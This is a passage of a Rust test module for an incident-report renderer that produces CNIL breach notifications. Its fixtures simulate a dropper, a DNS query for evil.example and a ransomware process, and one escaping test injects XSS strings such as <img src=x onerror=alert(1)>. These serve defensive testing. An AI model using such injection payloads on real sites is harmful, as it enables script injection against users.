                    ip: Some("10.0.0.5".parse().unwrap()),
                    port: Some(40000),
                    domain: None,
                },
                destination: Endpoint {
                    ip: Some("203.0.113.9".parse().unwrap()),
                    port: Some(443),
                    domain: None,
                },
                process: proc("/tmp/dropper", "dropper", "www-data"),
            }),
        );
        let dns = ev(
            T0 + 900,
            "fs-1",
            Payload::Dns(DnsEvent {
                dns: Dns {
                    kind: "query".into(),
                    question: DnsQuestion {
                        name: "evil.example".into(),
                        kind: "A".into(),
                    },
                    ..Dns::default()
                },
                destination: Endpoint::default(),
                process: proc("/tmp/dropper", "dropper", "www-data"),
            }),
        );
        let write = |ms: i64, path: &str| {
            ev(
                ms,
                "fs-1",
                Payload::File(FileEvent {
                    action: FileAction::Write,
                    file: File::at(path),
                    process: proc("/tmp/locker", "locker /srv/share", "www-data"),
                }),
            )
        };
        let vpn = ev(
            T0 - 3_000_000,
            "radius-1",
            Payload::Authentication(AuthEvent {
                outcome: Outcome::Failure,
                user: User {
                    name: Some("marie.dupont".into()),
                    ..User::default()
                },
                source: Endpoint {
                    ip: Some("198.51.100.7".parse().unwrap()),
                    ..Endpoint::default()
                },
                auth: AuthDetails {
                    service: "vpn".into(),
                    ..AuthDetails::default()
                },
            }),
        );
        let a1 = alert(
            T0,
            "Download piped to shell <b>bold</b>",
            Level::High,
            &["T1105"],
            vec![exec, dns, connect],
        );
        let a2 = alert(
            T0 + 60_000,
            "Ransomware behaviour: locker is encrypting files",
            Level::Critical,
            &["T1486", "T1490"],
            vec![
                write(T0 + 59_000, "/srv/share/factures.ods"),
                write(T0 + 59_500, "/srv/share/factures.ods"),
                write(T0 + 59_800, "/srv/share/paie.csv"),
            ],
        );
        let r1 = alert(
            T0 - 3_000_000,
            "VPN brute force on one account",
            Level::High,
            &["T1110.001"],
            vec![vpn],
        );
        let kill_event = json!({"@timestamp": at(T0 + 60_200).to_rfc3339()});
        Report {
            incident: json!({"id": "inc-1", "host_id": "fs-1", "title": "Download piped to shell",
                "status": "open", "first_time": T0, "last_time": T0 + 60_000, "alert_count": 2,
                "hostname": "fileserver"}),
            alerts: vec![
                (summary(&a1, T0, None), a1),
                (summary(&a2, T0 + 60_000, None), a2),
            ],
            related: vec![(
                summary(&r1, T0 - 3_000_000, Some("manager VPN (RADIUS)")),
                r1,
            )],
            audit: vec![
                json!({"time": T0 + 61_000, "actor": "agent:fs-1/policy", "action": "kill", "target": "4242",
                    "reason": "automatic action by the agent", "outcome": "success", "details": kill_event}),
                json!({"time": T0 + 120_000, "actor": "user:alice", "action": "isolate_requested", "target": "fs-1",
                    "reason": "ransomware", "outcome": "sent to the agent", "details": {}}),
                json!({"time": T0 + 121_000, "actor": "user:alice", "action": "isolate", "target": "fs-1",
                    "reason": "ransomware", "outcome": "succeeded: table inet vigie in place", "details": {}}),
            ],
            hosts: vec![
                json!({"id": "fs-1", "hostname": "fileserver", "os": "Debian 13", "addresses": ["10.0.0.5"], "isolated": true}),
                json!({"id": "radius-1", "hostname": "manager VPN (RADIUS)", "os": "", "addresses": [], "isolated": false}),
            ],
            notes: BTreeMap::new(),
            generated_at: T0 + 200_000,
            generated_by: "user:alice".into(),
        }
    }

    #[test]
    fn the_report_has_the_timeline_and_every_cnil_field_in_both_languages() {
        let r = sample();
        for l in [Lang::En, Lang::Fr] {
            let html = render(l, &r);
            for id in [
                "summary", "timeline", "involved", "actions", "cnil", "contacts",
            ] {
                assert!(
                    html.contains(&format!("<section class=\"part\" id=\"{id}\"")),
                    "{id}"
                );
            }
            for key in [
                "rep_summary",
                "rep_timeline",
                "rep_involved",
                "rep_actions",
                "rep_cnil",
                "rep_contacts",
                "rep_nature",
                "rep_confidentiality",
                "rep_integrity",
                "rep_availability",
                "rep_circumstances",
                "rep_started",
                "rep_discovered",
                "rep_measures_taken",
                "rep_deadline",
            ] {
                let text = maud::html! { (l.t(key)) }.into_string();
                assert!(html.contains(&text), "{key} in {l:?}");
            }
            // Every field a person completes is there, marked.
            for (name, key, _) in FIELDS {
                let text = maud::html! { (l.t(key)) }.into_string();
                assert!(html.contains(&text), "{name} in {l:?}");
            }
            let todo = maud::html! { (l.t("rep_to_complete")) }.into_string();
            // Integrity and availability are known here (ransomware, isolation).
            assert_eq!(
                html.matches(&format!("<strong class=\"todo\">☐ {todo}</strong>"))
                    .count(),
                FIELDS.len() - 2,
                "{l:?}"
            );
            // The deadline: 72 hours after the first alert.
            assert!(html.contains(&time(T0 + 72 * 3_600_000)));
            // Ransomware: integrity and availability pre-filled.
            let yes = maud::html! { (l.t("rep_yes_ransomware")) }.into_string();
            assert_eq!(html.matches(&yes).count(), 2);
            // Official sites only.
            for site in [
                "https://www.cert.ssi.gouv.fr/",
                "https://www.cnil.fr/",
                "https://www.cybermalveillance.gouv.fr/",
            ] {
                assert!(html.contains(&format!("href=\"{site}\"")));
            }
        }
        let fr = render(Lang::Fr, &r);
        assert!(fr.starts_with("<!DOCTYPE html><html lang=\"fr\">"));
        assert!(
            fr.contains("Notification de violation de données personnelles (CNIL, RGPD art. 33)")
        );
        assert!(fr.contains("À compléter"));
        let en = render(Lang::En, &r);
        assert!(en.contains("To complete") && !en.contains("À compléter"));
    }

    #[test]
    fn the_timeline_merges_alerts_related_activity_and_actions_in_time_order() {
        let html = render(Lang::En, &sample());
        let tl =
            &html[html.find("id=\"timeline\"").unwrap()..html.find("id=\"involved\"").unwrap()];
        let order = [
            "VPN brute force on one account",
            "Download piped to shell",
            "Ransomware behaviour",
            ">kill<",
            ">isolate_requested<",
            ">isolate<",
        ];
        let pos: Vec<usize> = order
            .iter()
            .map(|t| tl.find(t).unwrap_or_else(|| panic!("{t} in the timeline")))
            .collect();
        assert!(pos.windows(2).all(|w| w[0] < w[1]), "{pos:?}");
        // The VPN's alert is marked as related, on its own host, with the
        // account and where it came from.
        assert_eq!(tl.matches("<tr class=\"alert related\">").count(), 1);
        assert!(tl.contains("manager VPN (RADIUS)"));
        assert!(tl.contains("marie.dupont (198.51.100.7)"));
        // Process, pid, command line and user of an alert.
        assert!(tl.contains("/tmp/dropper (pid 4242)"));
        assert!(tl.contains("www-data"));
        // The actions with actor and verified outcome.
        assert!(tl.contains("user:alice: succeeded: table inet vigie in place"));
        assert!(tl.contains("agent:fs-1/policy: success"));
    }

    #[test]
    fn hosts_accounts_and_indicators_are_listed_once() {
        let html = render(Lang::En, &sample());
        let part =
            &html[html.find("id=\"involved\"").unwrap()..html.find("id=\"actions\"").unwrap()];
        assert!(
            part.contains("fileserver") && part.contains("Debian 13") && part.contains("10.0.0.5")
        );
        assert!(part.contains("manager VPN (RADIUS)"));
        assert!(part.contains("<code>www-data</code></td><td>local account"));
        assert!(part.contains("<code>marie.dupont</code></td><td>VPN account"));
        // Deduplicated: the dropper appears in three events, the file twice.
        assert_eq!(part.matches("<code>/tmp/dropper</code>").count(), 1);
        assert_eq!(
            part.matches("<code>/srv/share/factures.ods</code>").count(),
            1
        );
        assert!(part.contains(&"ab".repeat(32)));
        assert!(part.contains("<code>203.0.113.9:443</code>"));
        assert!(part.contains("<code>198.51.100.7</code>"));
        assert!(
            !part.contains("10.0.0.5:40000"),
            "the local side is no indicator"
        );
        assert!(part.contains("<code>evil.example</code>"));
        assert!(part.contains("<code>/srv/share/paie.csv</code>"));
    }

    #[test]
    fn what_a_person_filled_in_replaces_the_mark() {
        let mut r = sample();
        r.notes
            .insert("dpo".into(), "Jeanne Martin, dpo@cc-exemple.fr".into());
        r.notes
            .insert("persons_count".into(), "about 12 000 <residents>".into());
        let html = render(Lang::En, &r);
        assert!(html.contains("<span class=\"filled\">Jeanne Martin, dpo@cc-exemple.fr</span>"));
        assert!(html.contains("about 12 000 &lt;residents&gt;"));
        assert_eq!(
            html.matches("<strong class=\"todo\">").count(),
            FIELDS.len() - 4
        );
    }

    #[test]
    fn without_ransomware_or_isolation_the_nature_is_left_to_a_person() {
        let mut r = sample();
        r.alerts.truncate(1); // no ransomware alert
        r.audit.clear(); // no action
        let html = render(Lang::En, &r);
        let cnil = &html[html.find("id=\"cnil\"").unwrap()..html.find("id=\"contacts\"").unwrap()];
        assert!(!cnil.contains("Yes:"), "nothing pre-filled as known");
        assert_eq!(cnil.matches("to be assessed.").count(), 3);
        assert_eq!(
            cnil.matches("<strong class=\"todo\">").count(),
            FIELDS.len()
        );
        // What a person assessed replaces the mark.
        r.notes
            .insert("confidentiality".into(), "No sign of exfiltration".into());
        let html = render(Lang::En, &r);
        assert!(html.contains("<span class=\"filled\">No sign of exfiltration</span>"));
        assert_eq!(html.matches("to be assessed.").count(), 2);
        assert_eq!(
            html.matches("<strong class=\"todo\">").count(),
            FIELDS.len() - 1
        );
    }

    #[test]
    fn user_provided_text_is_escaped() {
        let mut r = sample();
        r.incident["title"] = json!("<script>alert('title')</script>");
        r.hosts[0]["hostname"] = json!("<img src=x onerror=alert(1)>");
        r.audit[2]["reason"] = json!("<script>reason</script>");
        let html = render(Lang::En, &r);
        assert!(!html.contains("<script>"), "raw markup in the report");
        assert!(!html.contains("<img"), "raw markup in the report");
        assert!(!html.contains("<b>bold</b>"));
        assert!(
            html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "the command line"
        );
        assert!(html.contains("&lt;script&gt;alert('title')&lt;/script&gt;"));
        assert!(html.contains("&lt;b&gt;bold&lt;/b&gt;"));
    }

    #[test]
    fn the_policy_allows_exactly_the_inline_style_sheet() {
        let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(CSS));
        assert!(CSP.contains(&format!("style-src 'sha256-{hash}'")));
        assert!(!CSP.contains("script-src") && CSP.starts_with("default-src 'none'"));
        let html = render(Lang::En, &sample());
        assert!(html.contains(&format!("<style>{CSS}</style>")));
        assert!(CSS.contains("@page { size: A4"));
        assert!(CSS.contains("break-before: page"));
    }
}
